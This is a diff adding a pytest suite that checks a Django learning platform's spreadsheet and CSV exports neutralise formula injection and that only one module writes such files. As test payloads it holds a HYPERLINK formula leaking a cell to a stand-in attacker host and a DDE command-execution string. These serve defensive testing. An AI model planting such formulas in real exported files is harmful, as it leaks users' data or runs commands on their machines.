@@ -1,0 +1,184 @@
+"""Formula injection: a provider's row, a course or a community named like a formula comes back in every
+spreadsheet and CSV we hand out as quoted text, never a live formula; and nothing in the code writes a workbook or
+a CSV except through core/documents.py."""
+
+import ast
+import io
+import re
+import zipfile
+from pathlib import Path
+
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from openpyxl import load_workbook
+
+import learncity
+from learncity.core import documents
+from learncity.intake import services as intake
+from learncity.intake.models import ImportJob
+from learncity.places.models import Place
+from learncity.places.services import community_create
+from tests.catalog.factories import GULOU, TERM, course_make, staff_institution
+from tests.intake.files import adults, csv_file, record
+
+SRC = Path(learncity.__file__).resolve().parent
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+DDE = "=cmd|' /C calc'!A0"
+PAYLOADS = [HYPERLINK, DDE, "\t=1+1", "  =1+1", "\u3000=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\r=1+1", "\n=1+1"]
+
+
+# --- the writer ---------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("text", PAYLOADS)
+def test_text_that_could_be_a_formula_is_quoted(text):
+    assert documents.safe_text(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", ["林一", "书法 = 美", "a-b", "2026-12-07", "", "'=already quoted", "＝1+1"])
+def test_ordinary_text_is_left_as_it_is(text):
+    assert documents.safe_text(text) == text
+
+
+def test_numbers_stay_numbers_and_controls_cannot_break_the_file():
+    from decimal import Decimal
+
+    assert [documents.safe_value(v) for v in (-5, -1.5, Decimal("-2.50"), None)] == [-5, -1.5, Decimal("-2.50"), None]
+    assert documents.safe_text("a\x00b\x1bc") == "a\ufffdb\ufffdc"
+
+
+def _cells(data: bytes) -> list:
+    """Every cell of every sheet as openpyxl reads it back (its type and value)."""
+    wb = load_workbook(io.BytesIO(data))
+    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+
+
+def _assert_no_formula(data: bytes) -> None:
+    """No formula element in any sheet's XML, and no cell read back as a formula."""
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        for name in z.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
+    assert [c.coordinate for c in _cells(data) if c.data_type == "f"] == []
+
+
+def test_cells_set_any_way_are_neutralised_when_the_workbook_is_saved():
+    wb = documents.workbook()
+    ws = wb.active
+    ws["A1"] = HYPERLINK
+    ws.cell(row=2, column=1, value=DDE)
+    ws.append(["\t=1+1", -3])
+    data = documents.workbook_bytes(wb)
+    _assert_no_formula(data)
+    assert [c.value for c in _cells(data)] == ["'" + HYPERLINK, "'" + DDE, "'\t=1+1", -3]
+
+
+def test_a_streaming_sheet_takes_rows_only_through_the_safe_writer():
+    wb = documents.streaming_workbook()
+    ws = wb.sheet("s")
+    ws.append([HYPERLINK, ws.cell(DDE), 7])
+    data = wb.save()
+    _assert_no_formula(data)
+    assert [c.value for c in _cells(data)] == ["'" + HYPERLINK, "'" + DDE, 7]
+
+
+def test_csv_cells_are_quoted_like_spreadsheet_cells():
+    text = documents.csv_bytes([[HYPERLINK, -2, "林一"]]).decode("utf-8-sig")
+    assert text == "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",-2,林一\r\n"
+
+
+# --- every file we hand out ---------------------------------------------------------------------------------------
+
+
+def test_the_intake_error_report_quotes_a_providers_formula(users, client_as, settings, tmp_path):
+    settings.LEARNCITY_INTAKE_DIR = tmp_path / "intake"
+    staff = users["staff"]
+    school = staff.role_assignments.get().institution
+    people = adults(2)
+    rows = [record(people[0], "F-1", name=HYPERLINK, title=DDE),
+            record(people[1], "F-2", title="\t=1+1", hours="-5")]
+    c = client_as(staff)
+    c.post("/intake/", {"institution_code": school.code, "mode": "valid",
+                        "file": SimpleUploadedFile("records.csv", csv_file(rows))})
+    job = intake.job_run(ImportJob.objects.get(institution=school, filename="records.csv").pk)
+
+    report = c.get(f"/intake/jobs/{job.pk}/report.xlsx")
+
+    assert report.status_code == 200
+    _assert_no_formula(report.content)
+    values = {c.value for c in _cells(report.content)}
+    assert {"'" + HYPERLINK, "'" + DDE, "'\t=1+1", "'-5"} <= values
+    assert not values & {HYPERLINK, DDE, "\t=1+1"}
+
+
+def test_a_course_roster_quotes_a_formula_in_a_course_title(users, client_as):
+    course = course_make(users["staff"], staff_institution(users), title=HYPERLINK, state="published")
+    response = client_as(users["staff"]).get(f"/learn/manage/courses/{course.pk}/roster.xlsx")
+    assert response.status_code == 200
+    _assert_no_formula(response.content)
+    assert _cells(response.content)[0].value == "'" + HYPERLINK
+
+
+def test_the_timetable_guide_quotes_a_formula_in_a_course_title(users, client_as):
+    course_make(users["staff"], staff_institution(users), title="@SUM(1+1)", state="published", kind="community")
+    response = client_as(users["learner"]).get(f"/learn/timetable/?district={GULOU}&term={TERM}&format=xlsx")
+    assert response.status_code == 200
+    _assert_no_formula(response.content)
+    values = {c.value for c in _cells(response.content)}
+    assert "'@SUM(1+1)" in values and "@SUM(1+1)" not in values
+
+
+def test_a_monitoring_export_quotes_a_formula_in_a_community_name(users, client_as):
+    street = Place.objects.filter(code__startswith="350102", level=4).order_by("code").first()
+    community_create(actor=users["city_admin"], parent_code=street.code, code=street.code + "999",
+                     name=" " + DDE)
+    response = client_as(users["city_admin"]).get(
+        f"/monitor/export/drilldown.xlsx?indicator=CE-PART&place={street.pk}")
+    assert response.status_code == 200
+    _assert_no_formula(response.content)
+    names = [c.value for c in _cells(response.content) if isinstance(c.value, str) and "cmd" in c.value]
+    assert names == ["'" + Place.objects.get(code=street.code + "999").name]
+    assert names[0].lstrip("' ").startswith(DDE)
+
+
+def test_the_intake_csv_template_is_written_by_the_safe_writer(client_as, users):
+    response = client_as(users["staff"]).get("/intake/template.csv")
+    assert response.status_code == 200
+    assert response.content.startswith("\ufeff".encode())
+    assert intake.template_csv() == response.content
+
+
+# --- nothing writes around the writer ---------------------------------------------------------------------------
+
+# The intake pipeline's csv writer builds a COPY stream into PostgreSQL's staging table: no file anyone opens.
+ALLOWED = {("intake/pipeline.py", "writer")}
+FORBIDDEN_CALLS = {"Workbook", "WriteOnlyCell", "writer", "DictWriter"}
+
+
+def _calls(tree: ast.AST):
+    for node in ast.walk(tree):
+        if isinstance(node, ast.Call):
+            f = node.func
+            name = f.attr if isinstance(f, ast.Attribute) else f.id if isinstance(f, ast.Name) else None
+            base = f.value.id if isinstance(f, ast.Attribute) and isinstance(f.value, ast.Name) else None
+            if name in {"Workbook", "WriteOnlyCell"} or (name in {"writer", "DictWriter"} and base == "csv"):
+                yield node.lineno, name
+
+
+def test_only_the_documents_module_makes_workbooks_and_csv_writers():
+    offenders = []
+    for path in SRC.rglob("*.py"):
+        rel = path.relative_to(SRC).as_posix()
+        if rel == "core/documents.py" or "/migrations/" in rel:
+            continue
+        for line, name in _calls(ast.parse(path.read_text(encoding="utf-8"))):
+            if (rel, name) not in ALLOWED:
+                offenders.append(f"{rel}:{line} {name}()")
+    assert offenders == []
+
+
+def test_the_source_check_finds_a_direct_writer():
+    tree = ast.parse("import csv\nfrom openpyxl import Workbook\nwb = Workbook()\nw = csv.writer(f)\n")
+    assert list(_calls(tree)) == [(3, "Workbook"), (4, "writer")]
+    assert re.search(r"write_only", (SRC / "core" / "documents.py").read_text())
